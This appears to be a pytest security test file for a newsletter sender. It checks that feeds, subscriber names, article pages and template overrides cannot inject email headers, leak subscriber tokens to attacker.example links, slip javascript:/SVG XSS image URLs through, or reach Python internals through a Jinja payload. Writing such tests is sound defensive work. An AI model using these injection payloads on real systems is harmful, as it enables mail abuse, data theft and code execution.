"""Issue 12, holes 2, 3, 4, 10 and 11: what a feed, a subscriber's name, an article page or a template override
can make the program do. Each attack runs as it worked: collect, build, check, send, through the outbox, a real
SMTP server (aiosmtpd) and the local SendGrid server, and the messages are read as a mail client would.
"""

from __future__ import annotations

import email
import json
import re
from collections.abc import Iterator
from email import policy
from email.message import EmailMessage
from pathlib import Path

import pytest
from sqlalchemy import insert, select

from newsletter.deliver.engine import SendOptions
from newsletter.deliver.smtp import SMTPMailer
from newsletter.store.db import session_scope
from newsletter.store.models import Delivery, SendBatch, Subscriber, Subscription, Suppression
from tests import smtp_server
from tests.conftest import rss, schedule_toml
from tests.editorial_server import EditorialServer, Page
from tests.send_fixtures import World, make_world
from tests.sendgrid_server import SendGridServer, check_request
from tests.smtp_server import Recorder

ATTACK_LINK = "https://attacker.example/t?e=%%email%%&u=%%unsubscribe_url%%&n=%%name%%"
TITLE = "Harbour bridge\r\nBcc: victim@evil.example\u2028reopens\u0085today\u2029%%email%%"
CLEAN_TITLE = "Harbour bridge Bcc: victim@evil.example reopens today %%email%%"  # the same, on one line
# Two attacks, told apart so each shows on its own: feed text with placeholders (plain names), and line
# breaks in the title and in names, with a name that carries an address of its own.
TITLES = pytest.mark.parametrize("title", [CLEAN_TITLE, TITLE], ids=["placeholders", "headers"])
BODY = (
    "<p>Write to %%email%% or see <a href='https://attacker.example/x?u=%%unsubscribe_url%%'>this</a>; "
    "spelled as entities: <a href='https://attacker.example/y?e=&#37;&#37;email&#37;&#37;'>that</a>, "
    "and SendGrid's own form %%email:html%% and %%name:html%%.</p>"
)
PEOPLE = [
    ("ann@example.com", "Ann"),
    ("bob@example.com", "Mal <other@evil.example>, M"),
    ("cy@example.org", "Cy\r\nBcc: hidden@evil.example"),
]


@pytest.fixture
def smtpd() -> Iterator[tuple[Recorder, int]]:
    recorder = Recorder()
    controller = smtp_server.start(recorder)
    yield recorder, controller.port
    controller.stop()


def attacker_urls(text: str) -> list[str]:
    return re.findall(r"https://attacker\.example[^\s\"'<>]*", text)


def setup_attack(workdir: Path, cli, title: str = TITLE) -> None:  # noqa: ANN001
    """The attacker's feed (a local file, as a schedule may list one), built into issue #1; three subscribers."""
    link = ATTACK_LINK.replace("&", "&amp;")
    (workdir / "attack.xml").write_text(
        '<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel><title>Attack</title>'
        "<link>https://attack.example/</link><description>x</description>"
        f"<item><title><![CDATA[{title}]]></title><link>{link}</link><guid>a1</guid>"
        f"<description><![CDATA[{BODY}]]></description></item></channel></rss>",
        encoding="utf-8", newline="",
    )
    (workdir / "schedules" / "town.toml").write_text(schedule_toml(
        "town", [("Attack", str(workdir / "attack.xml"))], "[digest]\nfetch_articles_under_words = 0\n"
        # The title alone, so the subject stays under the length inboxes show whole and keeps the attack's end.
        'subject = "{top_title}"\n'))
    csv = workdir / "people.csv"
    people = PEOPLE if title == TITLE else [(a, f"Reader {i}") for i, (a, _) in enumerate(PEOPLE)]
    csv.write_text("email,name\n" + "".join(f'{a},"{n}"\n' for a, n in people), newline="")
    assert "1 new items from 1 source" in cli("collect").output
    assert "Built issue #1" in cli("build", "town", "--no-enrich").output
    assert "3 added" in cli("subscribers", "import", str(csv), "-n", "town").output


def check_delivered(messages: dict[str, EmailMessage], title: str) -> None:
    """What each recipient got: one To address, one-line subject, no token of theirs in an attacker's URL."""
    assert set(messages) == {a for a, _ in PEOPLE}
    for address, msg in messages.items():
        assert msg["Bcc"] is None and msg["Cc"] is None
        [to] = msg["To"].addresses
        assert to.addr_spec == address
        assert "\n" not in str(msg["Subject"]) and "Harbour bridge Bcc: victim@evil.example reopens" in msg["Subject"]
        assert address not in str(msg["Subject"])
        text, html = (part.get_content() for part in msg.iter_parts())
        unsubscribe = msg["List-Unsubscribe"].strip().strip("<>")
        assert unsubscribe.startswith("https://news.example.com/u/")
        assert unsubscribe in text and unsubscribe.replace("&", "&amp;") in html  # the template's own link works
        urls = attacker_urls(text) + attacker_urls(html)
        assert len(urls) >= 2  # the story's link, in both parts
        for url in urls:
            assert address not in url and "news.example.com/u/" not in url and "%40" not in url, url
        assert "Write to %%\u2060email%%" in text and f"Write to {address}" not in text  # inert, shown as written
    if title != TITLE:
        return
    bob = messages["bob@example.com"]
    assert bob["To"].addresses[0].display_name == "Mal <other@evil.example>, M"
    assert messages["cy@example.org"]["To"].addresses[0].display_name == "Cy Bcc: hidden@evil.example"


@TITLES
def test_feed_text_forms_no_placeholder_and_headers_hold_through_the_outbox(workdir, cli, title: str) -> None:
    setup_attack(workdir, cli, title)
    issue = json.loads(cli("issue", "show", "1", "--format", "json").output)
    # U+0085 is read as Windows-1252's "…", as feedparser reads a C1 control in text (issue 14): still one line.
    gap = " " if title == CLEAN_TITLE else "…"
    assert issue["subject"] == f"Harbour bridge Bcc: victim@evil.example reopens{gap}today %%email%%"
    assert "\n" not in issue["items"][0]["title"]
    cli("check", "town", ok=False)  # may find problems; must not crash on the title
    assert "3 now" in cli("send", "town").output
    files = sorted((workdir / "outbox" / "town").rglob("*.eml"))
    check_delivered({f.name.removesuffix(".eml"): email.message_from_bytes(f.read_bytes(), policy=policy.default)
                     for f in files}, title)


@TITLES
def test_feed_text_forms_no_placeholder_and_headers_hold_over_smtp(
    workdir, cli, monkeypatch: pytest.MonkeyPatch, smtpd: tuple[Recorder, int], title: str
) -> None:
    recorder, port = smtpd
    setup_attack(workdir, cli, title)
    monkeypatch.setenv("NEWSLETTER_MAILER", "smtp")
    monkeypatch.setenv("NEWSLETTER_SMTP_URL", f"smtp://127.0.0.1:{port}")
    from newsletter.cli import common

    common.settings.cache_clear()
    assert "3 now" in cli("send", "town").output
    assert sorted(r.rcpt_tos[0] for r in recorder.received) == sorted(a for a, _ in PEOPLE)
    assert all(len(r.rcpt_tos) == 1 for r in recorder.received)  # nobody was added to any envelope
    check_delivered({r.rcpt_tos[0]: r.message for r in recorder.received}, title)


def sendgrid_delivers(body: dict) -> dict[str, EmailMessage]:
    """Each personalization's message as SendGrid makes it: its substitutions replaced literally in the
    subject and content, its headers added."""
    out: dict[str, EmailMessage] = {}
    for p in body["personalizations"]:
        def fill(value: str, subs: dict[str, str] = p.get("substitutions", {})) -> str:
            for key, sub in subs.items():
                value = value.replace(key, sub)
            return value

        msg = EmailMessage(policy=policy.default)
        msg["Subject"] = fill(body["subject"])
        to = p["to"][0]
        from email.headerregistry import Address

        msg["To"] = Address(display_name=to.get("name", ""), addr_spec=to["email"])
        for name, value in {**body.get("headers", {}), **p.get("headers", {})}.items():
            msg[name] = value
        text = next(c["value"] for c in body["content"] if c["type"] == "text/plain")
        html = next(c["value"] for c in body["content"] if c["type"] == "text/html")
        msg.set_content(fill(text))
        msg.add_alternative(fill(html), subtype="html")
        out[to["email"]] = msg
    return out


@TITLES
def test_feed_text_forms_no_placeholder_through_sendgrid(
    workdir, cli, sendgrid_env: SendGridServer, title: str
) -> None:
    setup_attack(workdir, cli, title)
    from newsletter.cli import common

    common.settings.cache_clear()
    assert "3 now" in cli("send", "town").output
    [request] = sendgrid_env.accepted
    assert check_request(request.body) == []
    assert "%%email%%" not in request.body["subject"]  # SendGrid substitutes in subjects too
    check_delivered(sendgrid_delivers(request.body), title)


def test_a_recipient_whose_message_cannot_be_built_is_left_out_alone(
    tmp_path: Path, smtpd: tuple[Recorder, int]
) -> None:
    """An address that slipped past validation (written to the database directly) must not strand a batch."""
    recorder, port = smtpd
    world: World = make_world(f"sqlite:///{tmp_path / 'smtp.db'}", 6)
    with session_scope(world.engine) as s:
        for bad in ("user2a@example.com\r\nBcc: x@evil.example", "no-at-sign"):
            sid = s.execute(insert(Subscriber).values(email=bad, fields={})).inserted_primary_key[0]
            s.execute(insert(Subscription).values(newsletter_id=world.newsletter_id, subscriber_id=sid,
                                                  status="active"))
    notes: list[str] = []
    report = world.send(world.new_issue(1), SMTPMailer("127.0.0.1", port), 50,
                        SendOptions(sleep=lambda _s: None, progress=lambda p: notes.append(p.note or "")))
    assert report.status == "done" and report.sent_now == 6
    assert recorder.deliveries() == {f"user{i}@example.com": 1 for i in range(6)}
    with session_scope(world.engine) as s:
        assert len(s.scalars(select(Delivery.id)).all()) == 6
        [error] = s.scalars(select(SendBatch.error)).all()
        assert "not sent to no-at-sign: not a usable address" in error and "CR or LF" in error
        assert s.scalars(select(Suppression.email)).all() == []  # not a bounce: the address is ours to fix
    assert sum("not sent to" in n for n in notes) == 2


def test_names_are_one_line_and_capped_on_the_way_in(workdir, cli) -> None:
    setup_attack(workdir, cli)
    cli("subscribers", "add", "dee@example.net", "--name", "Dee\nBcc: x@evil.example" + "x" * 500, "-n", "town")
    with session_scope(_engine()) as s:
        names = dict(s.execute(select(Subscriber.email, Subscriber.name)).all())
    assert names["cy@example.org"] == "Cy Bcc: hidden@evil.example"
    assert names["dee@example.net"].startswith("Dee Bcc: x@evil.example") and len(names["dee@example.net"]) == 200


def _engine():  # noqa: ANN202
    import os

    from newsletter.store.db import get_engine

    return get_engine(os.environ["NEWSLETTER_DATABASE_URL"])


ARTICLE = (
    "<html><head><meta property='og:image' content='{image}'><title>Bridge</title></head><body><article>"
    + "".join(f"<p>Paragraph {i} of a long story about the harbour bridge, its timber, its builders and the "
              "town that argued about it for three years before deciding.</p>" for i in range(6))
    + "</article></body></html>"
)


@pytest.fixture
def pages() -> Iterator[EditorialServer]:
    server = EditorialServer().start()
    yield server
    server.stop()


def test_an_article_og_image_passes_the_same_check_as_a_feed_image(workdir, cli, pages: EditorialServer) -> None:
    pages.pages["/js"] = Page(ARTICLE.format(image="javascript:alert(document.cookie)").encode())
    pages.pages["/data"] = Page(ARTICLE.format(image="data:image/svg+xml,<svg onload=alert(1)>").encode())
    pages.pages["/rel"] = Page(ARTICLE.format(image="/img/bridge.jpg").encode())
    feed = workdir / "feed.xml"
    feed.write_bytes(rss("Short", [{"guid": k, "title": f"Story {k}", "link": pages.url(f"/{k}"),
                                    "body": "<p>Teaser.</p>", "hours_ago": i + 1}
                                   for i, k in enumerate(("js", "data", "rel"))]))
    (workdir / "schedules" / "town.toml").write_text(schedule_toml(
        "town", [("Short", str(feed))], "[digest]\nfetch_articles_under_words = 150\n"))
    cli("collect")
    cli("build", "town")
    items = {i["url"].rsplit("/", 1)[1]: i for i in json.loads(cli("issue", "show", "1", "--format", "json").output)
             ["items"]}
    assert items["js"]["image_url"] is None and items["data"]["image_url"] is None
    assert items["rel"]["image_url"] == pages.url("/img/bridge.jpg")


def test_a_template_override_cannot_reach_python_internals(workdir, cli, monkeypatch: pytest.MonkeyPatch) -> None:
    setup_attack(workdir, cli, CLEAN_TITLE)
    templates = workdir / "templates"
    templates.mkdir()
    from newsletter.render.engine import default_templates_dir

    text = (default_templates_dir() / "digest.txt.j2").read_text()
    (templates / "digest.txt.j2").write_text("{{ cycler.__init__.__globals__ }}\n" + text)
    monkeypatch.setenv("NEWSLETTER_TEMPLATES_DIR", str(templates))
    monkeypatch.setenv("NEWSLETTER_SECRET_KEY", "the-secret-key-the-template-wants")
    from newsletter.cli import common

    common.settings.cache_clear()
    result = cli("send", "town", ok=False)
    assert result.exit_code != 0
    said = " ".join(result.output.split())
    assert "digest.txt.j2:1" in said and "unsafe" in said
    assert "the-secret-key-the-template-wants" not in said
    assert not list((workdir / "outbox").rglob("*.eml"))
